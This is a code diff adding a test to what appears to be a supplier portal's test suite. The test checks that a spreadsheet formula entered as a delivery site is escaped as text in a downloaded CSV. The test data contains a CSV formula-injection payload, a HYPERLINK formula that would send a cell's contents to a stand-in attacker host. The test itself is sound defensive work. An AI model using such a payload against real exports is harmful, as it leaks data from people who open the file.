@@ -357,3 +357,18 @@ def test_the_office_creates_a_suppliers_sign_in(site: Site) -> None:
     newcomer = site.client()
     sign_in(newcomer, "desk@farben-nord.example", "lang-genug-1")
     assert newcomer.get("/supplier/orders").status_code == 200
+
+
+def test_a_formula_typed_as_a_delivery_site_downloads_as_text(
+    pooling: Service, desk: FlaskClient
+) -> None:
+    """Issue 15: the portal hands out pooling's CSV, where such a site is text."""
+    event = need_posted(10, 1, "SIL-300", "12")
+    site = '=HYPERLINK("http://evil.example/?d="&A1,"Klick")'
+    feed(pooling, Event(event.event_type, event.payload | {"delivery_site": site}))
+    closed = pooling.client.post("/api/v1/pools/close", headers=pooling.token("admin"))
+    [order] = closed.get_json()["orders"]
+
+    document = desk.get(f"/supplier/orders/{order['id']}/document.csv").get_data(as_text=True)
+
+    assert ';"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Klick"")"\r\n' in document
